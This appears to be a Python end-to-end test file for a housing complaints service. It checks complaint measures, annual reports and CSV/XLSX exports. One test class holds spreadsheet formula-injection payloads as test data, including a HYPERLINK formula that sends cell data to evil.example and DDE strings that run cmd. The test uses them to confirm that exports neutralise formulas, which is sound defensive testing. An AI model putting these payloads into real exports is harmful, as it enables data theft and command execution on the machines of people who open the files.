"""End to end: GET /api/v1/measures and the annual report over HTTP, against a real `charter
serve` on a real SQLite file and, when CHARTER_PG_DSN is set, a real PostgreSQL database.

Usage: python3 tests/e2e/test_measures.py path/to/charter

Complaints go in through the JSON API (one answered in time, one late, one escalated), the
stock count is written to its table (the import fixture), and the measures for the year, a
quarter and a month must match the counts by hand. Python standard library only.
"""
import os
import sqlite3
import sys
import tempfile
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402

API = "/api/v1"


def day_number(iso):
    import datetime
    return (datetime.date.fromisoformat(iso) - datetime.date(1970, 1, 1)).days


class MeasuresApi(unittest.TestCase):
    @classmethod
    def make_db(cls):
        return os.path.join(cls.tmp.name, "charter.db")

    @classmethod
    def add_stock(cls, as_of_day, homes):
        con = sqlite3.connect(cls.db)
        con.execute("INSERT INTO stock_counts (landlord_id, as_of_day, tenure, homes) VALUES "
                    "(1, ?, 'social_rent', ?)", (as_of_day, homes))
        con.commit()
        con.close()

    @classmethod
    def drop_db(cls):
        pass

    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory()
        cls.db = cls.make_db()
        cls.server = harness.Server(cls.db).start()
        cls.ids = []
        for received, answered in [("2025-06-02T09:00:00Z", "2025-06-05T10:00:00Z"),
                                   ("2025-06-03T09:00:00Z", "2025-07-10T10:00:00Z"),
                                   ("2025-07-01T09:00:00Z", "2025-07-03T10:00:00Z")]:
            status, case = cls.server.request("POST", API + "/cases", {
                "kind": "complaint", "received_at": received, "channel": "email",
                "summary": "Damp in the bedroom", "person": {"name": "A Resident"},
                "tenure": "social_rent"})
            assert status == 201, case
            cid = case["id"]
            cls.ids.append(cid)
            for body in [{"action": "acknowledge", "at": received.replace("09:00", "11:00"),
                          "definition": "Damp and the delay", "handler": "Officer One"},
                         {"action": "respond", "at": answered, "decision": "upheld",
                          "elements": [{"summary": "Damp", "finding": "upheld",
                                        "reasons": "Inspection found it"}]}]:
                status, out = cls.server.request("POST", f"{API}/cases/{cid}/actions", body)
                assert status == 200, out
        status, out = cls.server.request("POST", f"{API}/cases/{cls.ids[2]}/actions",
                                         {"action": "request_escalation",
                                          "at": "2025-07-04T10:00:00Z"})
        assert status == 200, out
        cls.add_stock(day_number("2025-04-01"), 1000)

    @classmethod
    def tearDownClass(cls):
        cls.server.stop()
        cls.drop_db()
        cls.tmp.cleanup()

    def measures(self, period):
        status, out = self.server.request("GET", f"{API}/measures?period={period}")
        self.assertEqual(status, 200, out)
        return {m["code"]: m for m in out}

    def test_year(self):
        m = self.measures("2025-26")
        self.assertEqual(m["CH01-1"]["numerator"], 3)
        self.assertEqual(m["CH01-1"]["denominator"], 1000)
        self.assertEqual(m["CH01-1"]["value"], 3.0)
        self.assertEqual(m["CH01-2"]["numerator"], 1)
        self.assertEqual(m["CH02-1"]["denominator"], 3)
        self.assertEqual(m["CH02-1"]["numerator"], 2)
        self.assertEqual(m["CH02-1"]["value"], 66.7)
        for code in ["CH01-1", "CH01-2", "CH02-1", "CH02-2", "NM01-1", "NM01-2", "RP01",
                     "RP02-1", "RP02-2", "BS01", "BS05", "TP01", "TP12"]:
            self.assertIn(code, m)
            self.assertEqual(set(m[code]) >= {"code", "value", "numerator", "denominator",
                                              "target"}, True)

    def test_quarter_and_month(self):
        q1 = self.measures("2025-26-Q1")
        self.assertEqual(q1["CH01-1"]["numerator"], 2)
        self.assertEqual(q1["CH02-1"]["denominator"], 1)  # June's in-time answer; July's in Q2
        month = self.measures("2025-07")
        self.assertEqual(month["CH01-1"]["numerator"], 1)
        self.assertEqual(month["CH02-1"]["denominator"], 2)
        self.assertEqual(month["CH02-1"]["numerator"], 1)

    def test_bad_period(self):
        for bad in ["", "2025", "2025-27", "2025-13", "x"]:
            status, out = self.server.request("GET", f"{API}/measures?period={bad}")
            self.assertEqual(status, 422, (bad, out))
            self.assertEqual(out["error"]["field"], "period")
        status, _ = self.server.request("GET", f"{API}/measures")
        self.assertEqual(status, 422)

    def test_exports_and_annual_report(self):
        status, csv = self.server.request("GET", f"{API}/measures?period=2025-26&format=csv")
        self.assertEqual(status, 200)
        self.assertTrue(csv.startswith(b"period,code,title"))
        # Refused while incomplete (tsm.md example 21): no LCHO figures, no survey, no RP02.
        status, tsm = self.server.request("GET", f"{API}/measures?period=2025-26&format=tsm")
        self.assertEqual(status, 409, tsm)
        self.assertEqual(tsm["error"]["rule"], "tsm-publication-complete")
        self.assertEqual(tsm["error"]["field"], "CH01-1 (LCHO)")
        self.assertIn("survey approach (k)", tsm["error"]["message"])
        status, xlsx = self.server.request("GET", f"{API}/measures?period=2025-26&format=xlsx")
        self.assertEqual(status, 200)
        self.assertTrue(xlsx.startswith(b"PK"))
        status, report = self.server.request("GET", f"{API}/reports/annual?period=2025-26")
        self.assertEqual(status, 200, report)
        self.assertEqual(report["outcomes"]["stage1_received"], 3)
        self.assertEqual(report["outcomes"]["elements_upheld"], 3)
        self.assertGreaterEqual(len(report["self_assessment"]), 15)
        status, xlsx = self.server.request("GET", f"{API}/reports/annual?period=2025-26&format=xlsx")
        self.assertEqual(status, 200)
        self.assertTrue(xlsx.startswith(b"PK"))

    def test_trend(self):
        status, out = self.server.request("GET", f"{API}/measures/CH01-1/trend?period=2025-26&n=3")
        self.assertEqual(status, 200, out)
        self.assertEqual([p["period"] for p in out], ["2023-24", "2024-25", "2025-26"])
        self.assertEqual(out[2]["value"], 3.0)

    def test_pages(self):
        # Signed in as staff: the report pages need a web session (the API token is not one).
        password = harness.add_user(self.db, "cass@demo.example", "complaints_admin")
        cookie = harness.sign_in(self.server.port, "cass@demo.example", password)

        def page(path):
            status, _, body = harness.raw_request(self.server.port, "GET", path, {"Cookie": cookie})
            return status, body
        for path in ["/performance?period=2025-26", "/performance/CH02-1?period=2025-26",
                     "/reports/annual?period=2025-26", "/promises"]:
            status, body = page(path)
            self.assertEqual(status, 200, path)
            self.assertIn(b"<svg" if path != "/reports/annual?period=2025-26" else b"Self-assessment",
                          body if path != "/performance/CH02-1?period=2025-26" else b"<svg")
        status, body = page("/performance/CH02-1?period=2025-26")
        self.assertIn(b"CH-", body)


class SpreadsheetFormulasTest(unittest.TestCase):
    """A service area or theme written as a spreadsheet formula reaches the annual report's
    CSV as text (a leading apostrophe), and the XLSX holds no formulas at all. The built-in
    policy has no list of service areas or themes, so any text is accepted."""
    BACKEND = "sqlite"
    FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
                "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]

    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory()
        cls.db = harness.fresh_database(cls.BACKEND, cls.tmp.name, "formulas")
        cls.server = harness.Server(cls.db).start()
        for i, text in enumerate(cls.FORMULAS):
            status, case = cls.server.request("POST", API + "/cases", {
                "kind": "complaint", "received_at": f"2025-06-0{2 + i}T09:00:00Z",
                "channel": "email", "summary": "Damp", "person": {"name": "A Resident"},
                "service_area": text, "theme": text})
            assert status == 201, case

    @classmethod
    def tearDownClass(cls):
        cls.server.stop()
        harness.drop_database(cls.db)
        cls.tmp.cleanup()

    def test_csv_cells_are_never_formulas(self):
        import csv
        import io
        status, body = self.server.request("GET", f"{API}/reports/annual?period=2025-26&format=csv")
        self.assertEqual(status, 200, body)
        rows = list(csv.reader(io.StringIO(body.decode("utf-8"))))
        cells = [c for row in rows for c in row]
        for text in self.FORMULAS:
            self.assertIn("'" + text, cells, text)
        for c in cells:
            if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
                self.assertRegex(c, r"^[-+]?[0-9]+(\.[0-9]+)?$", f"a live formula: {c!r}")

    def test_xlsx_holds_no_formulas(self):
        import io
        import zipfile
        status, body = self.server.request("GET", f"{API}/reports/annual?period=2025-26&format=xlsx")
        self.assertEqual(status, 200)
        with zipfile.ZipFile(io.BytesIO(body)) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    self.assertNotIn(b"<f>", z.read(name), name)
                    self.assertNotIn(b"<f ", z.read(name), name)


harness.on_both(SpreadsheetFormulasTest, globals())


@unittest.skipUnless(harness.PG_DSN, "CHARTER_PG_DSN is not set")
class MeasuresApiOnPostgres(MeasuresApi):
    """The same requests and figures with `charter serve --db postgresql://...`."""

    @classmethod
    def make_db(cls):
        return harness.new_pg_database("measures")

    @classmethod
    def add_stock(cls, as_of_day, homes):
        harness.psql("INSERT INTO stock_counts (landlord_id, as_of_day, tenure, homes) VALUES "
                     f"(1, {int(as_of_day)}, 'social_rent', {int(homes)})", dsn=cls.db)

    @classmethod
    def drop_db(cls):
        harness.drop_pg_database(cls.db)


if __name__ == "__main__":
    result = unittest.main(argv=[sys.argv[0]], exit=False, verbosity=2).result
    failed = len(result.failures) + len(result.errors)
    print(f"{result.testsRun - failed} passed, {failed} failed")
    sys.exit(1 if failed else 0)
